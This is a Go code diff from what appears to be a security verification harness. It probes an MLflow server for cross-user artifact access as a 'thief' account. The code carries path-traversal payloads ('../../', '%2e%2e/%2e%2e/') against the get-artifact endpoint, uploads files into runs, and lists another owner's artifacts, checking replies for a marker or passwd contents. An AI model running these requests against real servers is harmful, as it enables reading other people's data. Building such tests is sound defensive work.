@@ -2,6 +2,7 @@ package attack
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"net/http"
 	"net/url"
@@ -94,17 +95,17 @@ func (c *campaign) borrowed(ctx context.Context) (string, error) {
 	if err != nil {
 		return "", err
 	}
-	// What lies at the member's own files is read by the same steps.
-	for how, try := range map[string]func(context.Context, string, string) (bool, error){
-		"an experiment": c.borrowByExperiment(own.marker), "a model version": c.borrowByVersion(own.marker),
-	} {
-		got, err := try(ctx, "mlflow-artifacts:/"+own.files(), noteName)
-		if err != nil {
-			return "", err
-		}
-		if !got {
-			return "", verify.Unproved(fmt.Errorf("%s that lies at the member's own files shows nothing", how))
-		}
+	// The steps themselves work: a version that lies at the member's own files shows
+	// them, and so does an experiment whose files lie where MLflow puts them.
+	got, err := c.borrowByVersion(own.marker)(ctx, "mlflow-artifacts:/"+own.files(), noteName)
+	if err == nil && got {
+		got, err = c.borrowByExperiment(own, c.thiefToken)(ctx, "", leftName)
+	}
+	if err != nil {
+		return "", err
+	}
+	if !got {
+		return "", verify.Unproved(errors.New("neither a version nor an experiment shows a member's own files"))
 	}
 	proper, err := c.as(ctx, c.ownerToken, http.MethodGet, artifacts+"/"+owner.files()+"/"+noteName, nil)
 	if err != nil {
@@ -123,7 +124,7 @@ func (c *campaign) borrowed(ctx context.Context) (string, error) {
 		{"the owner's run", "runs:/" + owner.run, noteName},
 	} {
 		for how, try := range map[string]func(context.Context, string, string) (bool, error){
-			"an experiment": c.borrowByExperiment(owner.marker), "a model version": c.borrowByVersion(owner.marker),
+			"an experiment": c.borrowByExperiment(owner, c.ownerToken), "a model version": c.borrowByVersion(owner.marker),
 		} {
 			got, err := try(ctx, location.uri, location.file)
 			if err != nil {
@@ -142,12 +143,15 @@ func (c *campaign) borrowed(ctx context.Context) (string, error) {
 	return fmt.Sprintf("%d borrowed locations give nothing", len(kept)), nil
 }
 
+// leftName is a file that the thief leaves.
+const leftName = "left.txt"
+
 // stolen says whether an answer holds what is not the thief's.
 func stolen(got answer, marker string) bool {
 	return strings.Contains(got.body, marker) || strings.Contains(got.body, passwd)
 }
 
-func (c *campaign) borrowByExperiment(marker string) func(context.Context, string, string) (bool, error) {
+func (c *campaign) borrowByExperiment(whose *things, reader string) func(context.Context, string, string) (bool, error) {
 	return func(ctx context.Context, location, file string) (bool, error) {
 		var experiment struct {
 			ID string `json:"experiment_id"`
@@ -168,12 +172,30 @@ func (c *campaign) borrowByExperiment(marker string) func(context.Context, strin
 		if err != nil || got.into(&run) != nil {
 			return false, err
 		}
-		// A run lies below its experiment; one climbs back.
+		// What is at its own place is the marker, so that reading it is seen to work.
+		upload := question{method: http.MethodPost, url: c.stack.MLflow.URL + ajax + "upload-artifact?run_uuid=" + run.Run.Info.ID + "&path=" + leftName, header: bearer(c.thiefToken), raw: []byte(whose.marker)}
+		if location != "" {
+			upload.raw = []byte("left by the thief")
+		}
+		if _, err := c.ask(ctx, upload); err != nil {
+			return false, err
+		}
+		// A run lies below its experiment: one climbs back, or leaves a file there.
 		for _, path := range []string{file, "../../" + file, "%2e%2e/%2e%2e/" + file} {
 			got, err := c.as(ctx, c.thiefToken, http.MethodGet, "/get-artifact?run_id="+run.Run.Info.ID+"&path="+path, nil)
-			if err != nil || stolen(got, marker) {
+			if err != nil || stolen(got, whose.marker) {
 				return err == nil, err
 			}
+		}
+		got, err = c.as(ctx, reader, http.MethodGet, artifacts+"?path="+whose.files(), nil)
+		if err != nil {
+			return false, err
+		}
+		if !strings.Contains(got.body, noteName) {
+			return false, verify.Unproved(fmt.Errorf("%d and no list of files for who owns them", got.status))
+		}
+		if strings.Contains(got.body, run.Run.Info.ID) {
+			return true, nil
 		}
 		return false, nil
 	}
